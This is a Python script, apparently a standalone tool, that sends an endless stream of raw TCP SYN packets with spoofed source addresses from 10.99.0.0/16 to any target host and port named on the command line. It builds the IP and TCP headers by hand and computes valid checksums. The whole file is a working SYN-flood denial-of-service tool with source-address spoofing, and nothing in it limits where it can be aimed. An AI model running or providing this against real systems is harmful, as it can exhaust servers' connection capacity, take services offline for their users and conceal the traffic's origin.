"""SYNs, each from an address of 10.99.0.0/16, of which none answers: python3 flood.py TARGET PORT COUNT. It says when it has sent
so many, and goes on until it is ended."""

import array
import itertools
import socket
import struct
import sys

target, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
OPTIONS = bytes.fromhex("020405b40402080a000000010000000001030307")
for i in itertools.count():
    if i == count:
        print("sent", flush=True)
    source = struct.pack("!BBH", 10, 99, i & 0xFFFF)
    tcp = struct.pack("!HHIIBBHHH", 1024 + (i >> 16), port, i, 0, 0xA0, 2, 64240, 0, 0) + OPTIONS
    pseudo = source + socket.inet_aton(target) + struct.pack("!BBH", 0, 6, len(tcp))
    words = array.array("H", pseudo + tcp)
    words.byteswap()
    total = sum(words)
    total = (total & 0xFFFF) + (total >> 16)
    total = (total & 0xFFFF) + (total >> 16)
    tcp = tcp[:16] + struct.pack("!H", ~total & 0xFFFF) + tcp[18:]
    raw.sendto(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0, source,
                           socket.inet_aton(target)) + tcp, (target, 0))
